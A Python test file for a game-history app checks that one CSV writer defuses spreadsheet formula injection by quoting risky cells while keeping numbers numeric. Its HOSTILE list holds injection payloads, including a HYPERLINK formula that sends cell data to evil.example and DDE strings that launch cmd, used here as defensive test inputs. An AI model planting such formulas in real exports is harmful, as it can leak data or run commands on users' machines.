"""Issue 22 part B, CSV: one CSV writer (companion/table/csvsafe.py) for every CSV,
in the command line and on the page.  A cell that would start a formula in a
spreadsheet ('=', '+', '-', '@', tab, CR) is written as text: a single quote in
front (OWASP, CSV injection: "prepend each cell field with a single quote").
Numbers stay numbers.  Read back with the real readers: Python's csv module
and pandas.read_csv."""
from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from companion.table import csvsafe, history, playtime, stats
from companion.table.store import Store

from test_history import records

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_gets_a_quote(text):
    assert csvsafe.safe_cell(text) == "'" + text
    back = next(csv.reader(io.StringIO(csvsafe.rows_csv([[text, -3, 2.5]]), newline="")))
    assert back == ["'" + text, "-3", "2.5"]


@pytest.mark.parametrize("value", [-3, 0, 12, -0.5, "-3", "+2", "-0.5", "Ann", "", None,
                                   "a=b", "Bea - the best"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csvsafe.safe_cell(value) == value


def test_a_frame_keeps_numbers_numeric_and_quotes_names_headers_and_index():
    df = pd.DataFrame({"player": ["=1+2", "Ann"], "total": [-3, 40],
                       "@head": ["x", "+y"]}).set_index("player")
    text = csvsafe.frame_csv(df, index=True)
    back = pd.read_csv(io.StringIO(text))
    assert list(back.columns) == ["player", "total", "'@head"]
    assert list(back["player"]) == ["'=1+2", "Ann"]
    assert list(back["total"]) == [-3, 40] and back["total"].dtype.kind == "i"
    assert list(back["'@head"]) == ["x", "'+y"]
    # the frame itself is not changed
    assert list(df.index) == ["=1+2", "Ann"]


def _hostile_store(tmp_path):
    """Fixture game G1 (Ann 44 wins, Bea 37: tests/test_history.py) with Ann named
    by a formula, and a formula as its location, notes and new player."""
    s = Store(path=tmp_path / "games.sqlite")
    ann = HOSTILE[0]
    rec = json.loads(json.dumps(records()["G1"]).replace('"Ann"', json.dumps(ann)))
    gid = s.create(rec, title="G1")
    meta = playtime.with_details({}, location=HOSTILE[1], notes=HOSTILE[2],
                                 new_players=[ann], duration_min=60)
    history.set_play_details(s, gid, meta)
    return s, gid, ann


def test_plays_csv_reads_back_with_the_quote_and_the_numbers(tmp_path):
    s, gid, ann = _hostile_store(tmp_path)
    try:
        text = history.plays_csv(s)
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["players"] == "'" + ann + ";Bea"
        assert row["winner"] == "'" + ann
        assert row["location"] == "'" + HOSTILE[1] and row["notes"] == "'" + HOSTILE[2]
        assert row["new_players"] == "'" + ann
        assert row["scores"] == "44;37" and row["duration_min"] == "60"
        df = pd.read_csv(io.StringIO(text))
        assert df.loc[0, "location"] == "'" + HOSTILE[1]
        assert df.loc[0, "duration_min"] == 60
        # no cell of the file starts a formula
        for r in csv.reader(io.StringIO(text)):
            assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in r)
    finally:
        s.close()


def test_people_csv_of_the_cli_and_the_page_is_safe(tmp_path):
    s, gid, ann = _hostile_store(tmp_path)
    try:
        out = tmp_path / "h2h.csv"
        df = stats.head_to_head(s)
        text = stats.to_csv(df, out)
        assert out.read_text(encoding="utf-8") == text
        back = pd.read_csv(out)
        cells = set(back.astype(str).values.ravel()) | set(back.columns)
        assert "'" + ann in cells and ann not in cells
        yearly = pd.read_csv(io.StringIO(stats.to_csv(stats.yearly(s))))
        assert "'" + ann in set(yearly["player"])
        assert yearly.select_dtypes("number").shape[1] >= 1     # counts stay numbers
    finally:
        s.close()


def test_no_csv_is_written_outside_the_one_writer():
    """Every CSV of companion/ goes through csvsafe: grep finds no other writer."""
    import pathlib
    import companion
    root = pathlib.Path(companion.__file__).parent
    offenders = []
    for f in root.rglob("*.py"):
        if f.name == "csvsafe.py":
            continue
        src = f.read_text(encoding="utf-8")
        for needle in (".to_csv(index", "csv.writer(", "csv.DictWriter(", "import csv"):
            if needle in src:
                offenders.append((f.name, needle))
    assert offenders == []
